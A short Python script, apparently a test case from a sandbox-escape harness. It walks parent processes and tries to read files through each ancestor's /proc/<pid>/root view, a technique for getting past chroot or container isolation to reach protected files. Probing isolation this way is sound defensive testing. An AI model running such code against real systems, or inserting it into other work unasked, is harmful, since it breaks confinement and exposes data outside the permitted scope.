import os

from attempt import attempt, first


def read_through_parents(path):
    """Every ancestor's view of the file system, up to the first process."""
    return first([lambda pid=pid: read(f"/proc/{pid}/root{path}") for pid in ancestors()])


def ancestors():
    pid = os.getppid()
    while pid > 0:
        yield pid
        with open(f"/proc/{pid}/status") as status:
            pid = int(next(line for line in status if line.startswith("PPid:")).split()[1])


def read(path):
    with open(path) as secret:
        return secret.read()


attempt(read_through_parents)
